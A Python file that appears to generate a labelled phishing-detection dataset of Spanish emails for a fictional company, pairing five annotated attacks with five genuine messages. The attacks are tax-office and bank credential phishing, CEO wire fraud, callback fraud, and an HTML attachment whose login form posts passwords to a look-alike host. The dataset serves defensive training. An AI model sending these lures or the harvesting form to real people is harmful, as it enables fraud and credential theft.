"""Spanish messages: 5 attacks, 5 business."""
import company as C
import ids
import infra as I
from common import Body, Msg, S, att, b64url, fmt_iban, h, html_att, pdf_att

ATTACKS = []
BUSINESS = []

PT_IBAN = ids.pt_iban('0033', '0000', '45301287743')
GIL_SIG = '''Transportes Hermanos Gil, S.L.
Pol. Ind. El Oliveral, C/ J, nave 14 – 46394 Ribarroja del Turia (Valencia)
CIF %s''' % C.GIL['cif']

# ================================================================ ATTACKS
_DEHU = 'https://sede-agenciatributaria.gob-es.info/dehu/acceso?ref=2026GRC48817V&nif=%s' % h('es-a27', 16)
ATTACKS.append(Msg(
    'aeat-dehu-notification-phishing', '2026-10-26 10:18:22',
    I.own_postfix('mail.aeat-notificaciones.com', '161.97.142.88', client='phpmailer', webmail=True,
                  rdns='vmi2231784.contaboserver.net'),
    ('Agencia Tributaria', 'notificaciones@aeat-notificaciones.com'), [S('joseluis.pena')],
    'Notificación pendiente en la Dirección Electrónica Habilitada única – Ref. 2026GRC48817V',
    Body('''Estimado/a contribuyente:

Le comunicamos que tiene a su disposición una notificación electrónica de la Agencia Estatal de Administración Tributaria en la Dirección Electrónica Habilitada única (DEHú):

Titular: EXAMPLE GROUP IBERIA SL – NIF %s
Procedimiento: Requerimiento de información – Declaración recapitulativa de operaciones intracomunitarias (Modelo 349), 3T 2026
Referencia: 2026GRC48817V

Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá rechazada y se continuará el procedimiento (art. 43 de la Ley 39/2015).

[[!Acceder a la notificación|%s]]

Podrá identificarse mediante Cl@ve PIN, Cl@ve Permanente o certificado electrónico.

Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.
''' % (C.EG['es_cif'], _DEHU), charset='utf-8', cte='quoted-printable', brand=('Agencia Tributaria', '#a41d21')),
    what='Fake AEAT/DEHú "pending notification" (Modelo 349 request) linking to a fake Cl@ve login.',
    why='Look-alike domain on a Contabo VPS; link goes to gob-es.info instead of *.gob.es; 10-day rejection threat; '
        'targets Cl@ve/certificate credentials. The tax advisor\'s genuine mail on the same filings: business 27.',
    pair='tax-advisor-filings-genuine', tech='Tax-office impersonation (AEAT/DEHú), credential phishing from VPS'))

ATTACKS.append(Msg(
    'ceo-fraud-lookalike-replyto-proton', '2026-11-13 17:22:05',
    I.own_postfix('mail.examplegroup-eu.com', '57.128.201.16', client='apple', sub_ip='45.134.140.18',
                  sub_rdns=None, rdns='vps-9b1c4e27.vps.ovh.net', ua_kw={'xm': 'iPad Mail (22B91)'}),
    ('Jürgen Köhler', 'juergen.koehler@examplegroup-eu.com'), [S('joseluis.pena')],
    'Operación confidencial – necesito su ayuda hoy',
    Body('''Estimado José Luis:

¿Está usted todavía en la oficina? Necesito su ayuda con un asunto confidencial que debe quedar resuelto hoy.

Estamos cerrando la adquisición de un distribuidor de equipos reacondicionados en Portugal. La operación está sujeta a un acuerdo de confidencialidad y, hasta el anuncio oficial, solo la Dra. Wörner y yo estamos al corriente. Le ruego que no lo comente con nadie, ni en Valencia ni en Düsseldorf.

Para asegurar la exclusividad debemos transferir hoy 96.500,00 € como depósito en garantía a la cuenta cliente del despacho que nos asesora en Lisboa:

Beneficiario: Almeida & Sousa Advogados – Conta Cliente
Banco: Millennium bcp
IBAN: %s
Concepto: Depósito EGI-2026/11

Por favor, hágala desde la cuenta de Example Group Iberia como transferencia urgente y envíeme el justificante en cuanto lo tenga. Estaré reunido toda la tarde y no podré atender llamadas, así que respóndame solo por correo.

Gracias por su discreción.

Un saludo,
Jürgen Köhler
CEO – Example Group

Enviado desde mi iPad
''' % fmt_iban(PT_IBAN), charset='utf-8', cte='quoted-printable'),
    reply_to=('Jürgen Köhler', 'jkoehler.direccion@proton.me'),
    what='CEO fraud in Spanish: confidential Portuguese acquisition, 96.500 € "escrow" transfer, replies diverted to Proton Mail.',
    why='Look-alike domain examplegroup-eu.com (real: examplegroup.eu) on an OVH VPS, Reply-To on proton.me, secrecy, '
        'same-day urgency, no phone contact, payment to a foreign "client account".',
    pair='ceo-urgent-payment-internal', tech='CEO fraud / BEC (look-alike domain + Reply-To to Proton Mail)'))

_CXB = 'https://caixabanknow-empresas.firma-renovacion.com/acceso?c=%s' % h('es-a29', 20)
ATTACKS.append(Msg(
    'bank-signature-renewal-spoof', '2026-11-17 20:41:38',
    I.exim_cpanel('es-srv23.webempresa.eu', '185.61.152.37', None, php=True, cpuser='clinicadm',
                  domain='clinicadentalmar.es'),
    ('CaixaBank', 'noreply@caixabank.es'), [S('begona.martinez')],
    'Acción requerida: renovación de su firma digital en CaixaBankNow Empresas',
    Body('''Estimado cliente:

Le informamos de que el certificado de firma digital asociado a su contrato de CaixaBankNow Empresas (titular: EXAMPLE GROUP IBERIA SL) caducará el 30/11/2026.

Para evitar la interrupción de la firma de transferencias, remesas de nóminas y pagos a proveedores, es necesario renovarlo antes de esa fecha. El proceso dura menos de tres minutos y requiere la confirmación con CaixaBank Sign.

[[!Renovar firma digital|%s]]

Si ya ha realizado la renovación, ignore este mensaje.

Atentamente,
CaixaBank, S.A.
Servicio de Atención a Empresas
''' % _CXB, charset='utf-8', cte='base64', brand=('CaixaBank', '#007EAE')),
    what='Bank phishing: spoofed CaixaBank sender, "renew your digital signature" for corporate online banking.',
    why='Exact bank domain spoofed in From, but sent by a PHP script on a compromised WordPress host (envelope sender '
        'clinicadm@es-srv23.webempresa.eu); link to firma-renovacion.com; harvests banking credentials and Sign OTPs.',
    tech='Bank credential phishing, spoofed brand domain via compromised web server (PHP mail)'))

ATTACKS.append(Msg(
    'callback-phishing-fake-renewal', '2026-12-01 12:09:47',
    I.gmail(host='lf1', last=51),
    ('Facturación Norton', 'norton.facturacion.es@gmail.com'), [S('begona.martinez')],
    'Confirmación de renovación – Pedido #NRT-ES-88214703',
    Body('''Estimado/a cliente:

Gracias por confiar en nosotros. Su suscripción Norton 360 Premium para empresas (10 dispositivos, 12 meses) se ha renovado automáticamente.

Número de pedido: NRT-ES-88214703
Fecha: 01/12/2026
Importe: 449,99 € (IVA incluido)
Método de pago: tarjeta registrada

El cargo aparecerá en su extracto en las próximas 24-48 horas. Adjuntamos la factura.

Si usted no ha autorizado esta renovación o desea cancelarla y solicitar el reembolso, llame a nuestro departamento de facturación en un plazo de 24 horas:

☎ +34 910 48 27 63 (lunes a sábado, 9:00–20:00)

Atentamente,
Departamento de Facturación
''', charset='utf-8', cte='quoted-printable', html=True,
        atts=[pdf_att('Factura_NRT-ES-88214703.pdf', [
            ('FACTURA / CONFIRMACIÓN DE PEDIDO', 14, True), 'Pedido: NRT-ES-88214703   Fecha: 01/12/2026', '',
            'Producto: Norton 360 Premium para empresas - 10 dispositivos - 12 meses', 'Cantidad: 1',
            'Base imponible: 371,89 EUR   IVA 21%: 78,10 EUR', ('TOTAL: 449,99 EUR', 12, True), '',
            '¿No reconoce este cargo? Llame en 24 horas para cancelar y obtener el reembolso:',
            ('+34 910 48 27 63', 14, True)],
            title='Factura', producer='Microsoft: Print To PDF', date="D:20261201110402+01'00'")]),
    what='Callback phishing (TOAD): fake 449,99 € antivirus renewal with a "cancel/refund" phone number.',
    why='Gmail sender impersonating a software vendor, no link but a phone number in body and PDF; the call leads to '
        'remote-access/refund fraud; the company never bought this product.',
    tech='Callback phishing (TOAD) with PDF, free-mail sender'))

_ADOBE = '''<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Adobe Document Cloud</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;margin:0}
.top{background:#fa0f00;color:#fff;padding:14px 24px;font-size:18px;font-weight:bold}
.card{width:420px;margin:60px auto;background:#fff;border-radius:6px;padding:32px;box-shadow:0 1px 4px rgba(0,0,0,.2)}
input{width:100%%;padding:9px;margin:8px 0;border:1px solid #bbb;border-radius:4px;font-size:14px}
button{width:100%%;padding:10px;background:#1473e6;color:#fff;border:0;border-radius:16px;font-size:15px}</style></head>
<body><div class="top">Adobe Document Cloud</div>
<div class="card"><h2 style="margin-top:0">Factura_FV-26-0981.pdf</h2>
<p>Este documento está protegido. Confirme su correo electrónico corporativo para visualizarlo.</p>
<form method="post" action="https://transportes-gil.docview-secure.com/api/auth">
<input type="email" name="email" value="joseluis.pena@examplegroup.eu">
<input type="password" name="password" placeholder="Contraseña del correo">
<input type="hidden" name="doc" value="%s">
<button type="submit">Ver documento</button></form>
<p style="font-size:11px;color:#777">Protegido por Adobe Acrobat Sign. &copy; 2026 Adobe. Todos los derechos reservados.</p>
</div></body></html>
''' % h('es-a31', 16)
ATTACKS.append(Msg(
    'carrier-invoice-html-credential-form', '2026-12-04 09:33:12',
    I.own_postfix('fr-int-smtpout12.hostinger.io', '145.14.159.212', client='roundcube', webmail=True,
                  ua_kw={'ver': '1.6.7'}),
    ('Administración Transportes Hermanos Gil', 'administracion@transportes-gil.es'), [S('joseluis.pena')],
    'Factura FV-26/0981 – servicio grupaje Valencia–Madrid',
    Body('''Buenos días:

Les adjuntamos la factura FV-26/0981 correspondiente a los servicios de grupaje Valencia–Madrid de noviembre, con vencimiento el 15/12/2026.

Por seguridad, el documento está protegido: al abrir el archivo adjunto se le pedirá que confirme su correo corporativo para visualizarlo.

Un saludo,
Departamento de Administración
Transportes Hermanos Gil, S.L.
''', charset='utf-8', cte='quoted-printable', html=True,
        atts=[html_att('Factura_FV-26-0981.html', _ADOBE)]),
    what='Carrier-invoice lure from look-alike domain transportes-gil.es with an HTML attachment containing a login form.',
    why='Look-alike of transportesgil.es hosted at Hostinger webmail; "invoice" is an HTML credential form (pre-filled '
        'address) posting to docview-secure.com; the real carrier sends PDFs from its Plesk server (business 28).',
    pair='carrier-bank-change-genuine-es', tech='HTML attachment credential phishing, look-alike carrier domain'))

# ================================================================ BUSINESS
BUSINESS.append(Msg(
    'tax-advisor-filings-genuine', '2026-10-21 13:14:56',
    I.gmail(host='qt1', last=171),
    ('Vicente Llorente', 'vicente@asesoriallorente.es'), [S('joseluis.pena')],
    'Modelos 303 y 349 – 3T 2026 presentados',
    Body('''Hola José Luis:

Te confirmo que hoy hemos presentado los modelos 303 y 349 del tercer trimestre de Example Group Iberia. Te adjunto los justificantes con el CSV de la AEAT.

- Modelo 303: resultado a compensar 4.218,37 €, sin ingreso.
- Modelo 349: 14 operaciones intracomunitarias, todas cuadradas con el libro registro de facturas.

Recuerda que las notificaciones de Hacienda os llegan a la DEHú y que nosotros también las vemos como apoderados. Si recibís algún aviso por correo, no pinchéis en enlaces: entrad directamente en la sede electrónica o avisadme y lo miro.

Un abrazo,
Vicente

--
Vicente Llorente
Asesoría Fiscal Llorente
C/ Colón 60, 5º – 46004 València
Tel. 963 52 18 40
''', charset='utf-8', cte='quoted-printable', html=True,
        atts=[pdf_att('Justificantes_303_349_3T2026_B98712334.pdf', [
            ('Agencia Tributaria - Justificante de presentación', 12, True), '',
            'Modelo 303 - IVA Autoliquidación - Ejercicio 2026 - Periodo 3T',
            'NIF: ' + C.EG['es_cif'] + '   Razón social: EXAMPLE GROUP IBERIA SL',
            'Número de justificante: 3033012874416   Resultado: a compensar 4.218,37 EUR',
            'Código Seguro de Verificación (CSV): ' + h('es-b27csv', 16, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'), '',
            'Modelo 349 - Declaración recapitulativa - Ejercicio 2026 - Periodo 3T',
            'Número de justificante: 3490227781903   Operaciones declaradas: 14',
            'Código Seguro de Verificación (CSV): ' + h('es-b27csv2', 16, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'), '',
            'Presentado por: ASESORIA FISCAL LLORENTE SL (colaborador social)  Fecha: 21/10/2026'],
            title='Justificantes 3T 2026', producer='iText 7 (AEAT)', date="D:20261021124433+02'00'")]),
    what='Genuine e-mail from the external tax advisor confirming VAT filings, with the AEAT receipts as PDF.',
    why='Advisor\'s own domain on Google Workspace, expected quarterly filing, explicitly warns against e-mailed tax '
        'notices with links.',
    pair='aeat-dehu-notification-phishing'))

BUSINESS.append(Msg(
    'carrier-bank-change-genuine-es', '2026-12-09 11:48:20',
    C.GIL_PLESK,
    ('Transportes Hermanos Gil – Administración', 'administracion@transportesgil.es'), [S('joseluis.pena')],
    'Comunicado: cambio de cuenta bancaria a partir del 1 de enero de 2027',
    Body('''Estimados clientes:

Les informamos de que, a partir del 1 de enero de 2027, Transportes Hermanos Gil, S.L. centralizará sus cobros en CaixaBank. Adjuntamos el certificado de titularidad de la cuenta emitido por la entidad.

Nueva cuenta (a partir del 01/01/2027): %s
Cuenta actual (Banco Sabadell, válida hasta el 31/03/2027): %s

Por su seguridad, les rogamos que antes de modificar sus datos confirmen este cambio por teléfono con nuestro departamento de administración en el 961 64 07 22 (el número que figura en su contrato), preguntando por Amparo Sanchis. Nunca les pediremos por correo que adelanten o desvíen pagos ya vencidos.

Las facturas de diciembre pueden seguir abonándose en la cuenta actual.

Atentamente,

Amparo Sanchis
Administración
%s
''' % (fmt_iban(C.GIL['iban_new']), fmt_iban(C.GIL['iban_old']), GIL_SIG), charset='windows-1252',
        cte='quoted-printable', html=True,
        atts=[pdf_att('Certificado_titularidad_CaixaBank.pdf', [
            ('CaixaBank, S.A. - Certificado de titularidad de cuenta', 12, True), '',
            'CaixaBank, S.A. certifica que la cuenta', 'IBAN ' + fmt_iban(C.GIL['iban_new']) + '   BIC CAIXESBBXXX',
            'figura a nombre de TRANSPORTES HERMANOS GIL SL, CIF ' + C.GIL['cif'] + ', desde el 02/12/2026.', '',
            'Oficina 3956 - Ribarroja del Turia (Valencia)', 'Fecha de emisión: 04/12/2026',
            'Documento emitido electrónicamente. Verificable en la oficina emisora.'],
            title='Certificado de titularidad', producer='CaixaBankNow', date="D:20261204101544+01'00'")]),
    cc=[S('begona.martinez')],
    what='Genuine carrier notice of a new bank account with bank-issued ownership certificate and phone verification.',
    why='Carrier\'s real domain and Plesk server (Outlook), long transition, Spanish account in the company\'s own name '
        'with certificate, insists on call-back to the number in the contract.',
    pair='carrier-invoice-html-credential-form'))

BUSINESS.append(Msg(
    'customer-complaint-es', '2026-10-15 18:02:11',
    C.GHMED_M365,
    ('Lucía Ferrer', 'lferrer@ghmediterraneo.es'), [S('begona.martinez')],
    'Reclamación urgente: retraso en la entrega de 40 portátiles – apertura hotel Dénia',
    Body('''Buenas tardes, Begoña:

Le escribo muy preocupada. Según el pedido GHM-2026-0318, los 40 portátiles configurados para la recepción y las oficinas del nuevo hotel de Dénia debían entregarse el 9 de octubre. Hoy es 15 y seguimos sin fecha de entrega ni número de seguimiento.

La apertura es el 2 de noviembre y nuestro proveedor del sistema de gestión hotelera necesita al menos diez días para instalar y probar los equipos. Si no los tenemos el lunes 19, tendremos que retrasar la formación del personal.

Le recuerdo que la cláusula 6 del contrato marco prevé una penalización del 0,5 % del importe del pedido por cada día de retraso, y que no descartamos aplicarla.

Le agradecería que me llamara mañana a primera hora (965 14 33 70, ext. 214) con una fecha de entrega confirmada.

Un saludo,

Lucía Ferrer
Departamento de Compras
Grupo Hotelero Mediterráneo, S.A.
Av. de Óscar Esplá 41 - 03007 Alicante
''', charset='iso-8859-1', cte='quoted-printable', html=True),
    what='Genuine customer complaint about a late delivery, citing a contractual penalty.',
    why='Customer\'s own Microsoft 365 tenant, concrete order/contract references, requests a phone call; no links or payment data.'))

_GA = ('https://accounts.google.com/AccountChooser?Email=begona.martinez@example.com&continue=https://myaccount.google.com/'
       'alert/nt/1793607344000?rfn%%3D6%%26rfnc%%3D1%%26eid%%3D%s%%26et%%3D0' % h('es-b30', 19, '0123456789'))
BUSINESS.append(Msg(
    'google-password-changed-es', '2026-11-02 09:15:44',
    I.google_notify(last=41),
    ('Google', 'no-reply@accounts.google.com'), [S('begona.martinez')],
    'Alerta de seguridad',
    Body('''Se ha cambiado la contraseña

begona.martinez@example.com

Se ha cambiado la contraseña de tu cuenta de Google begona.martinez@example.com. Si has sido tú, no tienes que hacer nada. Si no has sido tú, es posible que alguien esté usando tu cuenta: revisa y protege tu cuenta ahora.

[[!Comprobar actividad|%s]]

También puedes ver la actividad de seguridad en
https://myaccount.google.com/notifications

Te hemos enviado este correo electrónico para informarte de cambios importantes en tu cuenta y en los servicios de Google.
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
''' % _GA, charset='utf-8', cte='base64', params='; format=flowed; delsp=yes', brand=('Google', '#1a73e8')),
    what='Genuine Google "password changed" alert in Spanish for the office manager\'s Google account (Business Profile).',
    why='Google notification infrastructure and bounce address, links only to Google, informational.'))

BUSINESS.append(Msg(
    'broken-laptop-private-gmail', '2026-11-24 08:26:03',
    I.gmail(host='wm1', last=49),
    ('José Luis Peña', 'joseluis.pena.vlc@gmail.com'), [S('begona.martinez')],
    'Portátil roto – te escribo desde el Gmail',
    Body('''Hola Begoña:

Te escribo desde mi Gmail porque anoche se me cayó el portátil de la oficina y la pantalla está rota (enciende, pero no se ve nada).

¿Puedes pedir a IT en Düsseldorf un equipo de sustitución? El número de activo es EG-ES-0147, está en la pegatina de abajo. Hoy trabajo desde el ordenador de la sala de reuniones, así que el cierre de noviembre no se retrasa. Llevo el portátil a la oficina para que lo recoja el mensajero.

Gracias, un abrazo,
José Luis
''', charset='utf-8', cte='quoted-printable', html=True),
    what='Colleague reports a broken laptop from his private Gmail address.',
    why='Plausible reason for private mail, asset number, no request for money, credentials or data.'))
